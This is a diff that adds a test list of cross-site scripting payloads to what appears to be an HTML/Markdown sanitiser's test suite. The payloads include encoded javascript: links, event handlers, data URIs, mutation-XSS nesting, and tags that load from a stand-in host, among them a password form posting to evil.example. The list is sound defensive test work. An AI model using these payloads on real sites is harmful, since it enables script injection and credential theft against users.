@@ -11,6 +11,45 @@ URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcdoc", "data", "xlin
 C0_AND_SPACE = "".join(map(chr, range(0x21)))
 DANGEROUS_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
 
+# Markup and links that attack a sanitiser: every one must come out inert.
+XSS_PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" OnError="alert(1)">',
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](&#106;avascript:alert(1))",
+    "[click](&#x6A;&#x61;&#x76;&#x61;script:alert(1))",
+    "[click]( javascript:alert(1))",
+    "[click](vbscript:msgbox(1))",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">'
+    "x</a>",
+    '<a href="java\tscript:alert(1)">tab</a>',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '<iframe src="https://evil.example"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<style>body { display: none }</style>",
+    '<p style="background:url(javascript:alert(1))">styled</p>',
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    '<object data="https://evil.example/x.swf"></object>',
+    '<embed src="https://evil.example/x.swf">',
+    '<form action="https://evil.example"><input name="password"></form>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    '<div onmouseover="alert(1)">hover</div>',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<base href="javascript:/">',
+    "<details open ontoggle=alert(1)>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<link rel="stylesheet" href="https://evil.example/evil.css">',
+    '**bold** <a href="#" onclick="alert(1)">mixed</a> *and* `code`',
+]
+
 
 class _Collector(HTMLParser):
     def __init__(self):
